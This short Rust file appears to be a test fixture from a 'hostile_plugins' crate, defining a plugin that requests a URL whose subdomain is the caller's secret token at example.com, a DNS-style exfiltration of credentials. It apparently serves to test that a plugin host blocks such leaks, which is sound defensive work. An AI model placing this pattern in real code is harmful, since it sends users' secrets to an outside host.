//! Asks for a host whose name is its secret.

hostile_plugins::plugin!(|call| Request::get(format!("http://{}.example.com", call.token())).answer());
